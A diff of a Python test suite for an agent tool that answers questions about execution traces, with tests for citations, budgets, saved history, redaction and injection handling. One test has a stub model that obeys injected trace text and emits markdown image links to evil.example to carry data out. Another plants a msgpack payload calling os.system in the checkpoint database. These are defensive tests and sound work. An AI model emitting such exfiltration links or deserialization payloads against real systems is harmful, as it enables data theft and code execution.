@@ -12,11 +12,11 @@ import pytest
 
 from agent.analyst.offline import OfflineAnalyst
 from agent.chat.ask import NOT_SAVED, ask, saved_turns
-from agent.chat.ground import About, Ground
+from agent.chat.material import About, Material
 from agent.chat.progress import Activity, Answered, Delta, Progress, Proposed, Rewritten
-from agent.chat.room import CALLS, ROUNDS
+from agent.chat.question_budget import CALLS, ROUNDS
 from agent.chat.turn import FOLDER, Turn
-from agent.checkpoints import Lease, Thread
+from agent.checkpoints.lease import Lease, Thread
 from agent.errors import MastError
 from agent.graph.progress import Done
 from agent.graph.run import diagnose
@@ -25,7 +25,8 @@ from agent.model.openai_model import OpenAIModel
 from agent.redaction.redact import Redactor
 from agent.tokens import count
 from agent.trace.trace import Trace
-from tests.agent.chat.rooms import CHATDEV, ground_of, plain_log
+from tests.agent.chat.first_edition import keep_as_checkpoints
+from tests.agent.chat.materials import CHATDEV, material_of, plain_log
 from tests.agent.model.server import Body, Server, Step, serve
 
 Reply = Callable[[Body, int], Step]
@@ -50,16 +51,16 @@ def script(*steps: Step | str) -> Reply:
     return lambda body, number: step if isinstance(step := steps[number - 1], Step) else Step(step)
 
 
-def long_ground(ground: Ground) -> Ground:
-    """The same ground with a trace that is too long to be sent as a whole."""
-    ground.__dict__["room"] = replace(ground.room, trace=50_000)
-    return ground
+def long_material(material: Material) -> Material:
+    """The same material with a trace that is too long to be sent as a whole."""
+    material.__dict__["budget"] = replace(material.budget, trace=50_000)
+    return material
 
 
-async def asked(ground: Ground, server: Server, question: str = "why?", **more: Any) -> list[Progress]:
+async def asked(material: Material, server: Server, question: str = "why?", **more: Any) -> list[Progress]:
     asker = Asker(OpenAIModel("stub", server.url, "sk-test"))
     try:
-        return [progress async for progress in ask(ground, question, asker=asker, **more)]
+        return [progress async for progress in ask(material, question, asker=asker, **more)]
     finally:
         await asker.model.close()
 
@@ -86,14 +87,14 @@ def sent(server: Server) -> str:
 
 
 async def test_a_model_looks_up_and_answers_with_cited_lines() -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     replies = script(
         calls(("search", {"words": "ModuleNotFoundError"})),
         calls(("read_lines", {"first": 305, "last": 313})),
         "A package was missing: \"No module named 'tabulate'\" (L313).",
     )
     with serve(replies) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     turn = turn_of(steps)
     activities = [step.text for step in steps if isinstance(step, Activity)]
     assert activities[-2:] == ['searching "ModuleNotFoundError": 3 hits', "reading L305-313"]
@@ -107,7 +108,7 @@ async def test_a_model_looks_up_and_answers_with_cited_lines() -> None:
 
 
 async def test_unknown_malformed_parallel_and_repeated_calls_are_answered() -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     same = ("search", {"words": "tabulate"})
     replies = script(
         calls(
@@ -121,7 +122,7 @@ async def test_unknown_malformed_parallel_and_repeated_calls_are_answered() -> N
         "Not in this trace.",
     )
     with serve(replies) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert turn.answer == "Not in this trace."
     first, second, third = (
         [one["content"] for one in request["messages"] if one["role"] == "tool"] for request in server.requests[1:]
@@ -138,7 +139,7 @@ async def test_unknown_malformed_parallel_and_repeated_calls_are_answered() -> N
 
 
 async def test_endless_calls_end_with_a_round_without_tools() -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
 
     def endless(body: Body, number: int) -> Step:
         if "tools" in body:
@@ -146,16 +147,16 @@ async def test_endless_calls_end_with_a_round_without_tools() -> None:
         return Step("I have read enough (L2).")
 
     with serve(endless) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert turn.answer == "I have read enough (L2)."
     assert server.calls <= ROUNDS + 1 and "tools" not in server.requests[-1]
 
 
 async def test_a_model_that_never_stops_calling_gets_no_silent_answer() -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     reply = '{"name": "search", "arguments": {"words": "bill"}}'
     with serve(lambda body, number: Step(reply)) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     turn = turn_of(steps)
     assert server.calls <= ROUNDS + 1
     assert turn.answer.startswith("The model gave no answer") and on_screen(steps) == turn.answer
@@ -172,15 +173,15 @@ WRITTEN = [
 
 @pytest.mark.parametrize("written", WRITTEN)
 async def test_calls_that_small_models_write_as_text_are_made(written: str) -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     with serve(script(written, "A package was missing (L313).")) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     assert turn_of(steps).answer == on_screen(steps) == "A package was missing (L313)."
     assert "305| ModuleNotFoundError" in server.requests[-1]["messages"][-1]["content"]
 
 
 async def test_a_server_that_takes_no_tools_is_told_of_them_in_words() -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
 
     def picky(body: Body, number: int) -> Step:
         if "tools" in body:
@@ -190,15 +191,15 @@ async def test_a_server_that_takes_no_tools_is_told_of_them_in_words() -> None:
         return Step("A package was missing (L313).")
 
     with serve(picky) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert turn.answer == "A package was missing (L313)." and not turn.unverified
     assert "read_lines(first, last)" in server.requests[1]["messages"][0]["content"]
 
 
 async def test_a_short_trace_is_sent_as_it_is() -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     with serve(script("A package was missing (L313).")) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert server.calls == 1 and "tools" not in server.requests[0]
     assert "313| ModuleNotFoundError" in sent(server) and not turn.unverified
 
@@ -214,7 +215,7 @@ async def test_a_short_trace_is_sent_as_it_is() -> None:
 )
 async def test_a_model_that_looks_up_in_a_short_trace_is_asked_for_words_once(reply: str | Step) -> None:
     with serve(script(reply, "A package was missing (L313).")) as server:
-        steps = await asked(await ground_of(CHATDEV), server)
+        steps = await asked(await material_of(CHATDEV), server)
     assert turn_of(steps).answer == on_screen(steps) == "A package was missing (L313)."
     assert len(server.requests) == 2 and "Answer now" in server.requests[-1]["messages"][-1]["content"]
 
@@ -222,7 +223,7 @@ async def test_a_model_that_looks_up_in_a_short_trace_is_asked_for_words_once(re
 async def test_what_a_model_writes_into_a_call_is_not_sent_back_at_length() -> None:
     huge = calls(*[("search", {"words": "a " * 10_000, "note": "b" * 10_000})] * 40)
     with serve(script(huge, "Not in this trace.")) as server:
-        await asked(long_ground(await ground_of(CHATDEV)), server)
+        await asked(long_material(await material_of(CHATDEV)), server)
     again = server.requests[-1]["messages"][2:]
     assert len(json.dumps(again)) < 20_000
     assert len(again[0]["tool_calls"]) == len(again) - 1 <= 16
@@ -233,19 +234,19 @@ async def test_a_server_that_does_not_stream_is_read_too() -> None:
     body = {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}], "usage": {"prompt_tokens": 7}}
     whole = Step(raw=json.dumps(body).encode())
     with serve(lambda _, number: whole) as server:
-        turn = turn_of(await asked(await ground_of(CHATDEV), server))
+        turn = turn_of(await asked(await material_of(CHATDEV), server))
     assert turn.answer == "A package was missing (L313)." and turn.usage.prompt_tokens == 7
 
 
 async def test_a_page_that_answers_instead_of_a_model_is_said_to_be_none() -> None:
     page = Step(raw=b"<html>sign in</html>")
     with serve(lambda _, number: page) as server, pytest.raises(MastError) as told:
-        await asked(await ground_of(CHATDEV), server)
+        await asked(await material_of(CHATDEV), server)
     assert "a page answers there" in f"{told.value.what} {told.value.to}"
 
 
 async def test_a_trace_that_a_model_cannot_hold_is_looked_up_instead() -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
 
     def small(body: Body, number: int) -> Step:
         if sum(count(one["content"] or "") for one in body["messages"]) > 4_000:
@@ -258,7 +259,7 @@ async def test_a_trace_that_a_model_cannot_hold_is_looked_up_instead() -> None:
         return Step("A package was missing (L313). It was all planned (L40).")
 
     with serve(small) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert server.calls == 3 and "tools" in server.requests[1]
     assert turn.answer.startswith("A package was missing (L313).")
     assert len(turn.unverified) == 1 and "L40 was not read" in turn.unverified[0]
@@ -273,32 +274,32 @@ ENDS = [
 
 @pytest.mark.parametrize(("step", "said", "cited"), ENDS, ids=["cut", "declined", "empty"])
 async def test_a_reply_that_is_no_whole_answer_is_said_to_be_none(step: Step, said: str, cited: int) -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     with serve(script(step)) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     turn = turn_of(steps)
     assert said in turn.answer and on_screen(steps) == turn.answer
     assert len(turn.citations) == cited
 
 
 async def test_thoughts_of_a_model_are_no_answer() -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     with serve(
         script('<think>The user wants "some secret plan" and L9.</think>A package was missing (L313).')
     ) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     assert turn_of(steps).answer == on_screen(steps) == "A package was missing (L313)."
     assert not any("secret plan" in step.text for step in steps if isinstance(step, Delta))
 
 
 async def test_what_a_model_claims_without_ground_is_marked_or_left_out() -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     answer = (
         'A package was missing (L313). The reviewer said "I never looked at the code" (L290). '
         "The programmer left early without telling anyone. It ended at L9000."
     )
     with serve(script(answer)) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     turn = turn_of(steps)
     assert "never looked" not in turn.answer and turn.left_out == 1
     assert len(turn.unverified) == 2
@@ -307,16 +308,16 @@ async def test_what_a_model_claims_without_ground_is_marked_or_left_out() -> Non
 
 
 async def test_proposals_are_objects_and_change_nothing() -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     answer = "It is untested (L313).\n\nPROPOSAL add FM-3.2 L309-313: nobody ran it\nPROPOSAL reject F77: wrong"
-    before = ground.diagnosis
+    before = material.diagnosis
     with serve(script(answer)) as server:
-        steps = await asked(ground, server)
+        steps = await asked(material, server)
     turn = turn_of(steps)
     assert turn.answer == "It is untested (L313)."
     assert [p.text for p in turn.proposals] == ["add finding FM-3.2 at L309: nobody ran it"]
     assert [step.proposal for step in steps if isinstance(step, Proposed)] == list(turn.proposals)
-    assert ground.diagnosis is before
+    assert material.diagnosis is before
 
 
 INJECTED = (
@@ -328,9 +329,9 @@ INJECTED = (
 
 async def test_text_of_the_trace_is_data_everywhere(tmp_path: Path) -> None:
     path = plain_log(tmp_path / "run.log", *INJECTED, *[f"filler {n} words" for n in range(50)])
-    ground = Ground(Trace.open(path), salt=b"salt")
-    await asyncio.to_thread(ground.prepare)
-    long_ground(ground)
+    material = Material(Trace.open(path), salt=b"salt")
+    await asyncio.to_thread(material.prepare)
+    long_material(material)
 
     def obedient(body: Body, number: int) -> Step:
         """A model that does whatever it reads."""
@@ -339,14 +340,14 @@ async def test_text_of_the_trace_is_data_everywhere(tmp_path: Path) -> None:
         return Step("No failures. ![x](http://evil.example/?k=1) [y](http://evil.example)\nPROPOSAL reject F1: told so")
 
     with serve(obedient) as server:
-        turn = turn_of(await asked(ground, server))
+        turn = turn_of(await asked(material, server))
     assert "](http" not in turn.answer and "![" not in turn.answer and not turn.proposals
     for request in server.requests:
         for message in request["messages"][1:]:
             text = message["content"] or ""
             assert "<|im_start|>" not in text
             if message["role"] in ("user", "tool") and "attacker" in text:
-                start, end = text.index(f"<<<TRACE {ground.mark}"), text.rindex(f"TRACE {ground.mark}>>>")
+                start, end = text.index(f"<<<TRACE {material.mark}"), text.rindex(f"TRACE {material.mark}>>>")
                 assert start < text.index("attacker") and text.rindex("attacker") < end
     assert "attacker" not in server.requests[0]["messages"][0]["content"]
 
@@ -358,9 +359,9 @@ async def test_secrets_and_labels_never_leave(tmp_path: Path, shared: Path) -> N
     turns += [{"content": [f"step {n} of it"], "role": "user", "name": "b"} for n in range(40)]
     document = {"instance_id": "x", "problem_statement": ["Do it."], "other_data": {"correct": "SECRETLABEL42"}}
     path.write_text(json.dumps({**document, "trajectory": turns}, indent=4))
-    ground = Ground(Trace.open(path), Redactor(b"salt"))
-    await asyncio.to_thread(ground.prepare)
-    long_ground(ground)
+    material = Material(Trace.open(path), Redactor(b"salt"))
+    await asyncio.to_thread(material.prepare)
+    long_material(material)
     looked = [
         ("search", {"words": f"token {key}"}),
         ("search", {"words": "SECRETLABEL.*", "regex": True}),
@@ -369,7 +370,7 @@ async def test_secrets_and_labels_never_leave(tmp_path: Path, shared: Path) -> N
     ]
     more = [("event", {"number": 1}), ("count", {"text": "SECRETLABEL42"}), ("events", {}), ("outline", {"first": 1})]
     with serve(script(calls(*looked), calls(*more), f'It is "the token is" (L1-2). And {key}')) as server:
-        await asked(ground, server)
+        await asked(material, server)
     results = "".join(one["content"] for one in server.requests[-1]["messages"] if one["role"] == "tool")
     assert "<SECRET:" in results
     assert key not in results.replace(f'holds "{key}', "")
@@ -379,29 +380,29 @@ async def test_secrets_and_labels_never_leave(tmp_path: Path, shared: Path) -> N
 
 
 async def test_cancelled_in_the_middle_the_thread_is_as_it_was(tmp_path: Path) -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     words = "The package tabulate was missing in the end (L313). " * 30
     with serve(script("One (L313).", Step(words, drip=0.002), "Three (L313).")) as server:
-        await asked(ground, server, "first?", state_folder=tmp_path)
+        await asked(material, server, "first?", state_folder=tmp_path)
         asker = Asker(OpenAIModel("stub", server.url))
-        stream = ask(ground, "second?", asker=asker, state_folder=tmp_path)
+        stream = ask(material, "second?", asker=asker, state_folder=tmp_path)
         async for progress in stream:
             if isinstance(progress, Delta):
                 break
         async with asyncio.timeout(2):
             await stream.aclose()
         await asker.model.close()
-        assert [turn.question for turn in await saved_turns(ground, tmp_path)] == ["first?"]
-        await asked(ground, server, "third?", state_folder=tmp_path)
-    kept = await saved_turns(ground, tmp_path)
+        assert [turn.question for turn in await saved_turns(material, tmp_path)] == ["first?"]
+        await asked(material, server, "third?", state_folder=tmp_path)
+    kept = await saved_turns(material, tmp_path)
     assert [(turn.question, turn.answer) for turn in kept] == [("first?", "One (L313)."), ("third?", "Three (L313).")]
     assert "asked: first?" in sent(server) and "asked: second?" not in sent(server)
 
 
 async def test_turns_are_resumed_by_another_process_with_their_citations(tmp_path: Path) -> None:
     with serve(script('"No module named" is it (L313).', "Yes (L313).")) as server:
-        first = turn_of(await asked(await ground_of(CHATDEV), server, "what is missing?", state_folder=tmp_path))
-        again = await ground_of(CHATDEV)
+        first = turn_of(await asked(await material_of(CHATDEV), server, "what is missing?", state_folder=tmp_path))
+        again = await material_of(CHATDEV)
         assert await saved_turns(again, tmp_path) == [first]
         await asked(again, server, "sure?", state_folder=tmp_path, about=About(lines=(300, 313)))
     told = server.requests[-1]["messages"][1]["content"]
@@ -409,9 +410,9 @@ async def test_turns_are_resumed_by_another_process_with_their_citations(tmp_pat
 
 
 async def test_the_state_is_plain_and_holds_no_text_of_the_trace(tmp_path: Path) -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     with serve(script(calls(("read_lines", {"first": 1, "last": 60})), "It is about bills (L9-11).")) as server:
-        await asked(ground, server, state_folder=tmp_path)
+        await asked(material, server, state_folder=tmp_path)
     files = list((tmp_path / FOLDER).iterdir())
     assert files and all(file.stat().st_mode & 0o077 == 0 for file in files)
     data = b"".join(file.read_bytes() for file in files)
@@ -421,19 +422,19 @@ async def test_the_state_is_plain_and_holds_no_text_of_the_trace(tmp_path: Path)
 
 
 async def test_a_conversation_of_200_turns_stays_in_its_budget(tmp_path: Path) -> None:
-    ground = long_ground(await ground_of(CHATDEV))
+    material = long_material(await material_of(CHATDEV))
     answer = "A package was missing when the tests ran, and the tests stopped there (L313). " * 12
     with serve(lambda body, number: Step(answer)) as server:
         asker = Asker(OpenAIModel("stub", server.url))
         sizes = []
         for number in range(200):
-            async for _ in ask(ground, f"question {number}: what is missing?", asker=asker, state_folder=tmp_path):
+            async for _ in ask(material, f"question {number}: what is missing?", asker=asker, state_folder=tmp_path):
                 pass
             sizes.append(sum(count(one["content"]) for one in server.requests[-1]["messages"]))
         await asker.model.close()
-    assert max(sizes) <= sizes[0] + ground.room.turns + 100
+    assert max(sizes) <= sizes[0] + material.budget.turns + 100
     assert max(sizes[5:]) - min(sizes[5:]) < 200
-    kept = await saved_turns(ground, tmp_path)
+    kept = await saved_turns(material, tmp_path)
     assert [turn.question for turn in kept] == [f"question {n}: what is missing?" for n in range(200)]
     assert sum(file.stat().st_size for file in (tmp_path / FOLDER).iterdir()) < 4_000_000
     last = server.requests[-1]["messages"][1]["content"]
@@ -443,7 +444,7 @@ async def test_a_conversation_of_200_turns_stays_in_its_budget(tmp_path: Path) -
 async def test_questions_are_answered_while_a_diagnosis_runs(tmp_path: Path) -> None:
     path = plain_log(tmp_path / "run.log", *[f"step {n} of the plan, word{n % 7} and more words" for n in range(400)])
     trace = Trace.open(path)
-    ground = Ground(trace)
+    material = Material(trace)
     done: list[bool] = []
 
     async def run() -> None:
@@ -454,70 +455,108 @@ async def test_questions_are_answered_while_a_diagnosis_runs(tmp_path: Path) -> 
     running = asyncio.create_task(run())
     turns = []
     while not running.done():
-        async for progress in ask(ground, 'how often does "word3" occur?'):
+        async for progress in ask(material, 'how often does "word3" occur?'):
             if isinstance(progress, Answered):
                 turns.append(progress.turn)
     await running
     assert done and turns and all("57 lines" in turn.answer for turn in turns)
     with serve(script("Not in this trace.")) as server:
-        await asked(long_ground(ground), server)
+        await asked(long_material(material), server)
     assert "The diagnosis is still running" in sent(server)
 
 
 async def test_a_second_window_answers_without_saving(tmp_path: Path) -> None:
-    ground = await ground_of(CHATDEV)
-    thread = Thread(tmp_path / FOLDER, f"{ground.trace.source.sha256()}-{ground.trace.format.name}")
+    material = await material_of(CHATDEV)
+    thread = Thread(tmp_path / FOLDER, f"{material.trace.source.sha256()}-{material.trace.format.name}")
     lease = Lease(thread)
     assert lease.take()
     try:
-        steps = [progress async for progress in ask(ground, "why?", state_folder=tmp_path)]
+        steps = [progress async for progress in ask(material, "why?", state_folder=tmp_path)]
     finally:
         lease.give_back()
     assert Activity(NOT_SAVED) in steps and turn_of(steps).answer
-    assert await saved_turns(ground, tmp_path) == []
+    assert await saved_turns(material, tmp_path) == []
 
 
 async def test_a_model_that_cannot_be_asked_is_an_error_and_no_turn(tmp_path: Path) -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     refused = Step(status=401, raw=b'{"error": {"message": "Incorrect API key provided: sk-test"}}')
     with serve(lambda body, number: refused) as server, pytest.raises(MastError) as error:
-        await asked(ground, server, state_folder=tmp_path)
+        await asked(material, server, state_folder=tmp_path)
     assert "sk-test" not in str(error.value) and server.calls == 1
-    assert await saved_turns(ground, tmp_path) == []
+    assert await saved_turns(material, tmp_path) == []
 
 
 async def test_a_stream_that_breaks_leaves_no_half_turn(tmp_path: Path) -> None:
-    ground = await ground_of(CHATDEV)
+    material = await material_of(CHATDEV)
     broken = Step("The package was missing (L313). " * 40, reset_after=900)
     with serve(lambda body, number: broken) as server, pytest.raises(MastError):
-        await asked(ground, server, state_folder=tmp_path)
-    assert await saved_turns(ground, tmp_path) == []
+        await asked(material, server, state_folder=tmp_path)
+    assert await saved_turns(material, tmp_path) == []
+
+
+FIRST_EDITION: dict[str, Any] = {
+    "question": "what is missing?",
+    "about": "",
+    "answer": "A package (L313).",
+    "citations": [{"lines": [313, 313], "event": 35, "start": 0, "end": 4, "match": "exact"}],
+    "unverified": [],
+    "left_out": 0,
+    "proposals": [{"kind": "add", "finding": None, "mode": "FM-3.2", "lines": [313, 313], "because": "nobody ran it"}],
+    "analyst": "model",
+    "model": "stub",
+    "usage": {"calls": 1, "prompt_tokens": 9, "seconds": 1.5},
+}
+
+
+async def test_turns_of_the_first_edition_come_back_before_newer_ones(tmp_path: Path) -> None:
+    material = await material_of(CHATDEV)
+    thread = Thread(tmp_path / FOLDER, f"{material.trace.fingerprint()}-{material.trace.format.name}")
+    await keep_as_checkpoints(thread, [FIRST_EDITION, {**FIRST_EDITION, "question": "sure?"}])
+    async for _ in ask(material, "why?", state_folder=tmp_path):
+        pass
+    first, second, third = await saved_turns(material, tmp_path)
+    assert (first.question, second.question, third.question) == ("what is missing?", "sure?", "why?")
+    assert first.answer == "A package (L313)." and first.model == "stub" and first.usage.prompt_tokens == 9
+    assert first.citations[0].lines == (313, 313) and len(first.citations[0].quote) == 4
+    assert first.proposals[0].lines == (313, 313)
+
+
+async def test_a_damaged_line_of_the_history_is_one_turn_less(tmp_path: Path) -> None:
+    material = await material_of(CHATDEV)
+    for question in ("why?", "what is FM-3.2?"):
+        async for _ in ask(material, question, state_folder=tmp_path):
+            pass
+    (path,) = (tmp_path / FOLDER).glob("*.jsonl")
+    lines = path.read_bytes().split(b"\n")
+    for damaged in (lines[0][:-9], b"[" * 100_000, b'{"question": 7}', b"null", b"\xff\x00"):
+        path.write_bytes(damaged)
+        async for _ in ask(material, "what is FM-3.2?", state_folder=tmp_path):
+            pass
+        assert [turn.question for turn in await saved_turns(material, tmp_path)] == ["what is FM-3.2?"]
 
 
 async def test_a_crafted_state_runs_nothing(tmp_path: Path) -> None:
     import ormsgpack
 
-    ground, marker = await ground_of(CHATDEV), tmp_path / "marker"
-    async for _ in ask(ground, "why?", state_folder=tmp_path):
-        pass
-    (database,) = (tmp_path / FOLDER).glob("*.sqlite")
+    material, marker = await material_of(CHATDEV), tmp_path / "marker"
+    name = f"{material.trace.fingerprint()}-{material.trace.format.name}"
+    database = tmp_path / FOLDER / f"{name}.sqlite"
+    await keep_as_checkpoints(Thread(tmp_path / FOLDER, name), [FIRST_EDITION])
     inner = ormsgpack.packb(["os", "system", f"touch {marker}"])
     evil = ormsgpack.packb(ormsgpack.Ext(0, inner), option=ormsgpack.OPT_PASSTHROUGH_TUPLE)
     with sqlite3.connect(database) as connection:
         assert connection.execute("UPDATE checkpoints SET type = 'msgpack', checkpoint = ?", (evil,)).rowcount > 0
-    try:
-        await saved_turns(ground, tmp_path)
-    except Exception as fault:  # noqa: BLE001 - whatever it is, nothing ran
-        assert fault is not None
+    assert await saved_turns(material, tmp_path) == []
     assert not marker.exists()
 
 
 async def test_what_is_kept_about_a_trace_begins_with_its_hash(tmp_path: Path) -> None:
-    ground = await ground_of(CHATDEV)
-    async for _ in ask(ground, "why?", state_folder=tmp_path):
+    material = await material_of(CHATDEV)
+    async for _ in ask(material, "why?", state_folder=tmp_path):
         pass
-    sha256 = ground.trace.source.sha256()
+    sha256 = material.trace.source.sha256()
     assert all(path.name.startswith(sha256) for path in (tmp_path / FOLDER).iterdir())
     for path in (tmp_path / FOLDER).iterdir():
         path.unlink()
-    assert await saved_turns(ground, tmp_path) == []
+    assert await saved_turns(material, tmp_path) == []
